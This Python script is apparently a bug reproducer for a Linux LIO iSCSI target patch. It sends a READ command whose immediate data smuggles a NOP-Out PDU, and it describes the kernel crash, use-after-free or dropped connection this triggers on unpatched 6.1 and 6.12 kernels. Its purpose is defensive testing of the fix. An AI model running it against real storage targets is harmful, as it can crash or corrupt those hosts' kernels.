#!/usr/bin/env python3
"""Send LIO a READ whose SCSI Command PDU carries immediate data.

Reproducer for upstream/0003-scsi-target-iscsi-reject-immediate-data-without-w-bit.patch.
It logs in to TARGET at PORTAL with this project's PDU-level initiator
(initiator/iscsi_initiator), ImmediateData=Yes, sends one READ(10) of
one block (R bit, W bit clear, Expected Data Transfer Length 512) with a
data segment, and prints every PDU the target sends back:

  whole  512 bytes of data, as many as the READ reads. Stock 6.1 and
         6.12 run the READ, take the data as the immediate data of a
         WRITE and run the READ a second time (iscsit_execute_cmd,
         ICF_GOT_LAST_DATAOUT): a NULL se_lun in target_alua_state_check
         when the first run has completed, otherwise a second completion
         that releases the command while it is still listed on the
         connection (a WARN in iscsit_release_cmd, then use-after-free).
  part   64 bytes of data. Stock runs the READ and sends an R2T for the
         rest of its "write" data, which starts a DataOut timer nothing
         stops for a READ. The NOP-Out sent afterwards acknowledges the
         READ's status, so LIO releases the command with the timer
         pending; the timer runs on it after DataOutTimeout (3 s by
         default) and, at ERL 0, drops the connection.

The data segment is itself a whole NOP-Out PDU (ITT 0x5a5a5a5a) with
ping data. With the patch LIO answers a Reject (reason 0x04, protocol
error); iscsit_handle_scsi_cmd() leaves a refused command's data segment
unread, so LIO over iSCSI/TCP then reads that NOP-Out as the next PDU and
answers it with a NOP-In, as after its other Reject answers to SCSI
Commands (the patch does not change that). A stock LIO takes the bytes
as data and never answers that NOP-Out. cxgbit-ext's offloaded path
answers a Reject 0x04 and drops the connection before LIO sees the PDU.

What the target's kernel did is in its log (dmesg): the reproducer sees
only the PDUs. Run it only against a test target: on a stock kernel it
oopses or corrupts the target host's kernel. Example:

  upstream/reproducers/immediate_data_without_w.py 198.18.1.1 iqn.2026-11.org.cxgbit-ext:pdu --case part
"""

from __future__ import annotations

import struct
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

import common
from common import Note, watch

from iscsi_initiator.pdu import BHS_LEN, RSVD_TAG, Op, Pdu, nop_out, scsi_command
from iscsi_initiator.session import Connection, ConnectionClosed, Params

BLOCK = 512
READ10 = struct.pack(">BBIBHB", 0x28, 0, 0, 0, 1, 0)  # LBA 0, one block
SMUGGLED_ITT = 0x5A5A5A5A
CASES = {"whole": BLOCK, "part": 64}  # bytes of immediate data


def smuggled_nop_out(c: Connection, size: int) -> bytes:
    """``size`` bytes that parse as exactly one NOP-Out with ping data."""
    ping = nop_out(itt=SMUGGLED_ITT, cmdsn=c.cmdsn + 1, expstatsn=c.expstatsn, data=bytes(size - BHS_LEN))
    wire = ping.encode()
    assert len(wire) == size, "the ping data must need no padding"
    return wire


def meaning(probe: int) -> Note:
    def note(rsp: Pdu) -> str | None:
        if rsp.opcode == Op.R2T:
            return "an R2T for a READ"
        if rsp.opcode == Op.NOOP_IN and rsp.itt == SMUGGLED_ITT:
            return "the NOP-Out in the data segment answered (the target read the data as a PDU)"
        if rsp.opcode == Op.NOOP_IN and rsp.itt == probe != RSVD_TAG:
            return "the acknowledging NOP-Out answered"
        return None

    return note


def main(argv: list[str] | None = None) -> int:
    ap = common.parser(__doc__)
    ap.add_argument("--case", choices=sorted(CASES), default="whole")
    ap.add_argument("--wait", type=float, default=3, help="seconds to watch after the READ")
    ap.add_argument("--linger", type=float, default=6,
                    help="seconds to watch after the acknowledging NOP-Out (past DataOutTimeout)")  # fmt: skip
    args = ap.parse_args(argv)

    host, port = args.portal
    c = Connection(host, port)
    c.login(args.initiator, args.target, Params(immediate_data=True, initial_r2t=True))
    if not c.params.immediate_data or c.params.first_burst < CASES[args.case]:
        print(f"the target did not take ImmediateData=Yes with a FirstBurstLength of at least {CASES[args.case]}:")
        print("LIO would refuse the data segment for that reason instead; nothing sent")
        c.close()
        return 2
    data = smuggled_nop_out(c, CASES[args.case])
    cmd = scsi_command(READ10, itt=c.next_itt(), cmdsn=c.cmdsn, expstatsn=c.expstatsn, read_len=BLOCK, data=data)
    print(f"sending READ(10), ITT 0x{cmd.itt:08x}, flags 0x{cmd.flags:02x} (R, no W), "
          f"Expected Data Transfer Length {BLOCK}, DataSegmentLength {len(data)}")  # fmt: skip
    c.send(cmd)
    c.cmdsn += 1
    if watch(c, args.wait, meaning(RSVD_TAG)).closed:
        return 0
    probe = c.next_itt()
    print(f"sending a NOP-Out, ITT 0x{probe:08x}, ExpStatSN {c.expstatsn} (acknowledges every status so far)")
    try:
        c.send(nop_out(itt=probe, cmdsn=c.cmdsn, expstatsn=c.expstatsn))
    except (ConnectionClosed, ConnectionError):
        print("  the target dropped the connection")
        return 0
    watch(c, args.linger, meaning(probe))
    c.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
